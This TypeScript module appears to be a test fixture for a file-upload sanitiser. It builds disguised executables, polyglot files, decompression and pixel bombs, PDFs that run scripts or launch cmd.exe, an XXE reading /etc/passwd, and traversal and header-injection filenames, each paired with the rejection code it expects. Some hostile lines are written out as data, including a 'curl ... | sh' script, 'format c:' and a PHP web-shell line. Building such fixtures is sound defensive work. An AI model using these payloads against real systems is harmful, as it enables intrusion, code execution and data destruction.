import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { amr, box, gif, gpsJpeg, jpeg, mp3, mp4, pdf, png, type TestFile, text, wav, webp } from './honest-files.js';

/** Stands in whatever must not reach anybody who has the copy. */
export const PAYLOAD = 'HOSTILE-PAYLOAD';

/** A file that somebody might send to do harm, and what must become of it. */
export interface HostileFile extends TestFile {
  /** What it tries. */
  why: string;
  /** The code with which it is refused; null when it is taken and what it carries is left out of the copy. */
  code: string | null;
  /** The name under which it is shown, when it is taken. */
  shown?: string;
}

const latin = (words: string) => Buffer.from(words, 'latin1');
const concat = (parts: Uint8Array[]): Buffer<ArrayBuffer> => Buffer.concat(parts);
const SCRIPT = `<script>alert('${PAYLOAD}')</script>`;

/** An archive of one file. */
function zip(name: string, content: Buffer, { bomb = false } = {}): Buffer<ArrayBuffer> {
  const packed = bomb ? deflateRawSync(content, { level: 9 }) : content;
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(bomb ? 8 : 0, 4);
  common.writeUInt32LE(packed.length, 14);
  common.writeUInt32LE(content.length, 18);
  common.writeUInt16LE(name.length, 22);
  const local = concat([latin('PK\x03\x04'), common, latin(name), packed]);
  const central = concat([latin('PK\x01\x02\x14\0'), common, Buffer.alloc(14), latin(name)]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return concat([local, central, end]);
}

const chunk = (type: string, body: Uint8Array): Buffer => {
  const framed = Buffer.alloc(body.length + 12);
  framed.writeUInt32BE(body.length);
  framed.write(type, 4, 'latin1');
  framed.set(body, 8);
  framed.writeUInt32BE(crc32(framed.subarray(4, -4)), framed.length - 4);
  return framed;
};

/** A picture in black that says to be of a size, and is of so many lines. */
function pngOf(width: number, height: number, lines = height): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const dots = deflateSync(Buffer.alloc(lines * (1 + Math.ceil(width / 8))));
  const sign = Buffer.from('89504e470d0a1a0a', 'hex');
  return concat([sign, chunk('IHDR', head), chunk('IDAT', dots), chunk('IEND', Buffer.alloc(0))]);
}

/** A picture of one colour that says to be 60,000 by 60,000. */
const immenseGif = (): Buffer => {
  const size = Buffer.from('60ea60ea', 'hex');
  const lines = Buffer.from('02024401003b', 'hex');
  return concat([
    latin('GIF89a'),
    size,
    Buffer.from('800000000000ffffff', 'hex'),
    latin(','),
    Buffer.alloc(4),
    size,
    Buffer.alloc(1),
    lines,
  ]);
};

/** A picture that says to be 16,383 by 16,383. */
async function immenseWebp(): Promise<Buffer> {
  const bytes = await sharp(await png())
    .webp({ lossless: true })
    .toBuffer();
  const at = bytes.indexOf('VP8L') + 9;
  bytes.writeUInt32LE(0x3ffe | (0x3ffe << 14), at);
  return bytes;
}

const objectStream = (inside: string) => {
  const packed = deflateSync(latin(inside)).toString('latin1');
  return `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream\nendobj\n`;
};

const EXE = concat([
  latin('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0'),
  Buffer.alloc(44),
  latin('\x80\0\0\0'),
  Buffer.alloc(64),
  latin(`PE\0\0${PAYLOAD}`),
]);
const ELF = concat([latin('\x7fELF\x02\x01\x01'), Buffer.alloc(120), latin(PAYLOAD)]);
const MACHO = concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(120)]);
const CLASS = concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(120)]);
const HTML = latin(`<!DOCTYPE html><html><body>${SCRIPT}</body></html>`);
const SVG = latin(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${PAYLOAD}')"/>`);
const XML = latin(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`);
const SHELL = latin(`#!/bin/sh\ncurl http://example.com/${PAYLOAD} | sh\n`);
const OLE = concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const WORD = zip('word/vbaProject.bin', latin(PAYLOAD));

/** Programs, pages and archives that pretend to be something else. */
const disguised = (): HostileFile[] => {
  const as = (why: string, name: string, bytes: Buffer, code: string): HostileFile => ({ why, name, bytes, code });
  const no = 'TYPE_NOT_ACCEPTED';
  return [
    as('a program as a picture', 'photo.jpg', EXE, no),
    as('a program as a document', 'invoice.pdf', EXE, no),
    as('a program as a text', 'readme.txt', EXE, no),
    as('a program as a film', 'film.mp4', EXE, no),
    as('a program for Linux as a picture', 'photo.png', ELF, no),
    as('a program for Linux as a text', 'notes.txt', ELF, no),
    as('a program for macOS as a picture', 'photo.webp', MACHO, no),
    as('a class of Java as a picture', 'photo.gif', CLASS, no),
    as('a script of the shell as a text', 'letter.txt', SHELL, 'ACTIVE_CONTENT'),
    as('a script of the shell as a picture', 'photo.jpg', SHELL, 'TYPE_DOES_NOT_FIT'),
    as('a batch file as a text', 'letter.txt', latin('@echo off\r\nformat c:\r\n'), 'ACTIVE_CONTENT'),
    as('PowerShell as a text', 'letter.txt', latin('run: powershell.exe -enc SGVsbG8='), 'ACTIVE_CONTENT'),
    as(
      'a script for Windows as a text',
      'letter.txt',
      latin('Set s = CreateObject("WScript.Shell")'),
      'ACTIVE_CONTENT',
    ),
    as('PHP as a text', 'letter.txt', latin('Hello <?php system($_GET[1]); ?>'), 'ACTIVE_CONTENT'),
    as('a page as a text', 'letter.txt', HTML, 'ACTIVE_CONTENT'),
    as('a page as a picture', 'photo.jpg', HTML, 'TYPE_DOES_NOT_FIT'),
    as('a page as a document', 'invoice.pdf', HTML, 'TYPE_DOES_NOT_FIT'),
    as('a script in the middle of a text', 'letter.txt', text(`Dear all,\n${SCRIPT}`), 'ACTIVE_CONTENT'),
    as('an address that runs in a text', 'letter.txt', text('see javascript:alert(1)'), 'ACTIVE_CONTENT'),
    as('a drawing that runs as a picture', 'photo.png', SVG, 'TYPE_DOES_NOT_FIT'),
    as('a drawing that runs as a text', 'letter.txt', SVG, 'ACTIVE_CONTENT'),
    as('a drawing packed as a picture', 'photo.png', gzipSync(SVG), no),
    as('XML that reads files as a text', 'letter.txt', XML, no),
    as('PostScript as a document', 'invoice.pdf', latin('%!PS-Adobe-3.0\n(x) run'), no),
    as('rich text as a text', 'letter.txt', latin('{\\rtf1\\objdata 01}'), no),
    as('an archive as a picture', 'photo.jpg', zip('a.txt', latin(PAYLOAD)), no),
    as('an archive as a document', 'invoice.pdf', zip('a.txt', latin(PAYLOAD)), no),
    as('a bomb of an archive as a document', 'invoice.pdf', zip('0', Buffer.alloc(20_000_000), { bomb: true }), no),
    as('a bomb of gzip as a text', 'letter.txt', gzipSync(Buffer.alloc(10_000_000)), no),
    as('a document with macros as a document', 'letter.pdf', WORD, no),
    as('an old Office file as a document', 'letter.pdf', OLE, no),
    as('an installer as a film', 'film.mp4', OLE, no),
    as('a picture of Photoshop as a picture', 'photo.png', concat([latin('8BPS\0\x01'), Buffer.alloc(60)]), no),
    as('a TIFF as a picture', 'photo.jpg', concat([latin('II*\0\x08\0\0\0'), Buffer.alloc(60)]), no),
    as('an icon as a picture', 'photo.gif', concat([Buffer.from('0000010001001010', 'hex'), Buffer.alloc(60)]), no),
    as('a database as a text', 'letter.txt', concat([latin('SQLite format 3\0'), Buffer.alloc(100)]), no),
    as(
      'a shortcut of Windows as a document',
      'invoice.pdf',
      concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(60)]),
      no,
    ),
    as('a text in UTF-16', 'letter.txt', Buffer.from('\ufeffhello', 'utf16le'), no),
    as('a text that is no UTF-8', 'letter.txt', latin('caf\xe9 \xff\xfe'), no),
    as('a text with signs for a terminal', 'letter.txt', latin('\x1b]0;owned\x07\x1b[2J'), no),
    as('a text with a NUL', 'letter.txt', latin('abc\0def'), no),
  ];
};

/** Files that are what they say, and are not as they should be. */
const broken = async (): Promise<HostileFile[]> => {
  const [aJpeg, aPng, aWebp, aGif] = await Promise.all([jpeg(400, 300), png(), webp(), gif()]);
  const is = (why: string, name: string, bytes: Buffer, code: string): HostileFile => ({ why, name, bytes, code });
  return [
    is('a picture cut off', 'photo.jpg', aJpeg.subarray(0, aJpeg.length / 2), 'DAMAGED'),
    is('a picture cut off', 'photo.png', aPng.subarray(0, aPng.length / 2), 'DAMAGED'),
    is('a picture cut off', 'photo.webp', aWebp.subarray(0, aWebp.length / 2), 'DAMAGED'),
    is('a picture cut off', 'photo.gif', aGif.subarray(0, 200), 'DAMAGED'),
    is('a beginning and nothing else', 'photo.jpg', Buffer.from('ffd8ffe000104a464946000101', 'hex'), 'DAMAGED'),
    is('a script that begins as a picture', 'photo.gif', latin(`GIF89a=1;alert('${PAYLOAD}')//`), 'DAMAGED'),
    is('a page that begins as a picture', 'photo.png', concat([aPng.subarray(0, 8), HTML]), 'TYPE_DOES_NOT_FIT'),
    is('a bomb of pixels', 'photo.png', pngOf(10_000, 8_000), 'TOO_MANY_PIXELS'),
    is('a bomb of pixels', 'photo.webp', await immenseWebp(), 'TOO_MANY_PIXELS'),
    is('a bomb of pixels', 'photo.gif', immenseGif(), 'TOO_MANY_PIXELS'),
    is('a picture that says to be immense', 'photo.png', pngOf(60_000, 60_000, 2), 'TOO_MANY_PIXELS'),
    is('a picture that says to be larger', 'photo.png', pngOf(640, 480, 48), 'DAMAGED'),
    is('a PNG by the name of a JPEG', 'photo.jpg', aPng, 'TYPE_DOES_NOT_FIT'),
    is('a JPEG by the name of a PNG', 'photo.png', aJpeg, 'TYPE_DOES_NOT_FIT'),
    is('a picture by the name of a document', 'invoice.pdf', aJpeg, 'TYPE_DOES_NOT_FIT'),
    is('a document by the name of a picture', 'photo.jpg', pdf(), 'TYPE_DOES_NOT_FIT'),
    is('a film by the name of a picture', 'photo.jpg', mp4(), 'TYPE_DOES_NOT_FIT'),
    is('sound by the name of a text', 'letter.txt', wav(), 'TYPE_DOES_NOT_FIT'),
    is('a document without an end', 'invoice.pdf', pdf().subarray(0, 300), 'DAMAGED'),
    is(
      'a film without its index',
      'film.mp4',
      concat([mp4().subarray(0, 20), box('mdat', Buffer.alloc(100))]),
      'DAMAGED',
    ),
    is('a film cut off', 'film.mp4', mp4().subarray(0, 1_500), 'DAMAGED'),
    is(
      'a film with a box larger than itself',
      'film.mp4',
      concat([mp4(), Buffer.from('7fffffff6d646174', 'hex')]),
      'DAMAGED',
    ),
    is('sound cut off', 'call.wav', wav().subarray(0, 500), 'DAMAGED'),
    is('a tag without sound', 'call.mp3', mp3({ frames: 0 }), 'TYPE_DOES_NOT_FIT'),
    is('a page that begins as sound', 'call.mp3', concat([latin('ID3\x03\0\0\0\0\0\0'), HTML]), 'TYPE_DOES_NOT_FIT'),
    is('a voice message without sound', 'voice.amr', amr({ frames: 0 }), 'DAMAGED'),
  ];
};

/** Files that are two things at once, or do something when opened. */
const doubled = async (): Promise<HostileFile[]> => {
  const archive = zip('payload.txt', latin(PAYLOAD));
  const is = (why: string, name: string, bytes: Buffer, code: string): HostileFile => ({ why, name, bytes, code });
  const active = (why: string, more: Parameters<typeof pdf>[0]) => is(why, 'invoice.pdf', pdf(more), 'ACTIVE_CONTENT');
  return [
    is('a document and an archive', 'invoice.pdf', concat([pdf(), archive]), 'HIDDEN_CONTENT'),
    is(
      'a document and an archive that ends as one',
      'invoice.pdf',
      concat([pdf(), archive.subarray(0, -2), latin('\x06\0%%EOF\n')]),
      'HIDDEN_CONTENT',
    ),
    is('a document and a page', 'invoice.pdf', concat([pdf(), HTML]), 'HIDDEN_CONTENT'),
    is('a page inside a document', 'invoice.pdf', pdf({ stream: `${SCRIPT} ` }), 'HIDDEN_CONTENT'),
    active('a document that runs a script', { head: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ' }),
    active('the same in other signs', { head: '/OpenAction << /S /J#61v#61Script /JS (app.alert(1)) >> ' }),
    active('the same in packed objects', { objects: objectStream('8 0 << /S /JavaScript /JS (app.alert(1)) >>') }),
    active('the same packed in other signs', {
      objects: objectStream('8 0 << /S /Java#53cript /JS (app.alert(1)) >>'),
    }),
    active('a document that starts a program', { head: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }),
    active('a document with a file in it', { objects: '9 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nendobj\n' }),
    active('a document that sends forms', { head: '/AA << /O << /S /SubmitForm /F (http://example.com) >> >> ' }),
    active('a document with forms that run', { head: '/AcroForm << /XFA [(a) 9 0 R] >> ' }),
    active('a document with a film that runs', { objects: '9 0 obj\n<< /Subtype /RichMedia >>\nendobj\n' }),
    is(
      'packed objects that are packed twice',
      'invoice.pdf',
      pdf({ objects: objectStream('8 0 null').replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]') }),
      'HIDDEN_CONTENT',
    ),
    is('a bomb in a document', 'invoice.pdf', pdf({ stream: 'a'.repeat(40_000_000), packed: true }), 'HIDDEN_CONTENT'),
    is('an encrypted document', 'invoice.pdf', pdf({ head: '/Encrypt 9 0 R ' }), 'ENCRYPTED'),
    is('a film and an archive', 'film.mp4', mp4({ more: [archive] }), 'DAMAGED'),
    is(
      'a film with an archive as its last picture',
      'film.mp4',
      mp4({ sound: concat([Buffer.alloc(500), archive]) }),
      'HIDDEN_CONTENT',
    ),
    is('a film with a box nobody knows', 'film.mp4', mp4({ more: [box('evil', latin(PAYLOAD))] }), 'HIDDEN_CONTENT'),
    is('a film with a track of places', 'film.mp4', mp4({ handler: 'meta' }), 'LOCATION_INSIDE'),
    is('a film with places as subtitles', 'film.mp4', mp4({ handler: 'text' }), 'LOCATION_INSIDE'),
    is('sound and an archive', 'call.wav', wav({ more: archive }), 'HIDDEN_CONTENT'),
    is('sound and an archive', 'call.mp3', mp3({ more: archive }), 'HIDDEN_CONTENT'),
    is('sound and a page', 'call.mp3', mp3({ more: HTML }), 'HIDDEN_CONTENT'),
    is('a voice message and an archive', 'voice.amr', amr({ more: archive }), 'HIDDEN_CONTENT'),
    is('a text and an archive', 'letter.txt', concat([text('hello '), zip('a', latin('b'))]), 'HIDDEN_CONTENT'),
  ];
};

/** Names and sizes. */
const misnamed = async (): Promise<HostileFile[]> => {
  const bytes = await jpeg();
  const is = (why: string, name: string, code: string | null, shown?: string): HostileFile => ({
    why,
    name,
    bytes,
    code,
    ...(shown ? { shown } : {}),
  });
  const no = 'FILE_TYPE_NOT_ACCEPTED';
  return [
    is('a program by its name', 'photo.exe', no),
    is('a program behind a picture', 'photo.jpg.exe', no),
    is('a page by its name', 'photo.html', no),
    is('a drawing by its name', 'photo.svg', no),
    is('a document with macros by its name', 'photo.docm', no),
    is('a picture of another kind by its name', 'photo.heic', no),
    is('no end at all', 'photo', no),
    is('a point and nothing', 'photo.', no),
    is('an end that objects have', 'photo.constructor', no),
    is('the end turned around', 'photo\u202egpj.exe', no),
    is('a NUL before another end', 'photo.exe\0.jpg', 'TEXT_NOT_UNICODE'),
    is('half a sign', 'photo\ud83d.jpg', 'TEXT_NOT_UNICODE'),
    is('no name', '', 'FILE_NAME_EMPTY'),
    is('only points', '../..', 'FILE_NAME_EMPTY'),
    is('a name of 10,001 characters', `${'n'.repeat(9_997)}.jpg`, 'FILE_NAME_TOO_LONG'),
    is('a name of 256 characters', `${'n'.repeat(252)}.jpg`, 'FILE_NAME_TOO_LONG'),
    is('a path upwards', '../../../../etc/passwd.jpg', null, 'passwd.jpg'),
    is('a path of Windows', 'C:\\Windows\\system32\\photo.jpg', null, 'photo.jpg'),
    is('a device', 'CON.jpg', null, '_CON.jpg'),
    is('a stream of a file', 'photo.exe:x.jpg', null, 'photo.exe_x.jpg'),
    is('a line of a header', 'a\r\nSet-Cookie: x=1.jpg', null, 'aSet-Cookie_ x=1.jpg'),
    is('the end turned around', 'exe.\u202egpj.jpg', null, 'exe.gpj.jpg'),
    is('a page in a name', `<img src=x onerror=alert(1)>.jpg`, null, '_img src=x onerror=alert(1)_.jpg'),
    is('quotation marks', `a"; filename=evil.exe; x=".jpg`, null, 'a__; filename=evil.exe; x=_.jpg'.replace('__', '_')),
  ];
};

/** Pictures that carry something along: it stays in the sealed original. */
const loaded = async (): Promise<HostileFile[]> => {
  const archive = zip('payload.txt', latin(PAYLOAD));
  const [aJpeg, aPng, aGif, aWebp] = await Promise.all([jpeg(), png(), gif(), webp()]);
  const is = (why: string, name: string, bytes: Buffer): HostileFile => ({ why, name, bytes, code: null });
  const comment = concat([
    aJpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, SCRIPT.length + 2]),
    latin(SCRIPT),
    aJpeg.subarray(2),
  ]);
  return [
    is('a picture and an archive', 'photo.jpg', concat([aJpeg, archive])),
    is('a picture and an archive', 'photo.png', concat([aPng, archive])),
    is('a picture and a script', 'photo.gif', concat([aGif, latin(SCRIPT)])),
    is('a picture and a page', 'photo.png', concat([aPng, HTML])),
    is('a picture and PHP', 'photo.webp', concat([aWebp, latin(`<?php ${PAYLOAD} ?>`)])),
    is('a page in the comment of a picture', 'photo.jpg', comment),
    is('where a picture was taken', 'photo.jpg', await gpsJpeg()),
  ];
};

export const hostileFiles = async (): Promise<HostileFile[]> =>
  (await Promise.all([disguised(), broken(), doubled(), misnamed(), loaded()])).flat();
